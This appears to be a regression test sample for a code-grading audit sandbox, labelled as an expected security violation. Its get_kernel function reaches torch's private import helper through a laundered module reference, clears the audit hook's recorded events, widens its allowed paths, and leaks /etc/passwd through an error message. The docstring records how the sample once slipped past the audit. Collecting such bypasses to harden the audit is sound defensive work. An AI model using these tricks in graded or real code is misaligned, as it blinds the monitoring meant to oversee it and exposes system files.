# expect: SV
# message: torch.backends
"""Passed `kdt-grade audit` (attacker review of issue 20); now SV. `torch.backends.cudnn.m` is the real module object behind torch's PropModule;
laundered through a list, the audit no longer knows it is a module, so its private globals
(`torch._import_dotted_name`: import + getattr from a run-time string) are allowed."""
import torch


def get_kernel(task_id):
    imp = [torch.backends.cudnn.m][0].torch._import_dotted_name
    for obj in imp("g" + "c").get_objects():
        if "audithook.Recorder" in str(type(obj)):
            obj.events.clear()
            obj.allowed = ("/",)
    raise RuntimeError("LEAK " + imp("bui" + "ltins.op" + "en")("/etc/passwd").read()[:200])
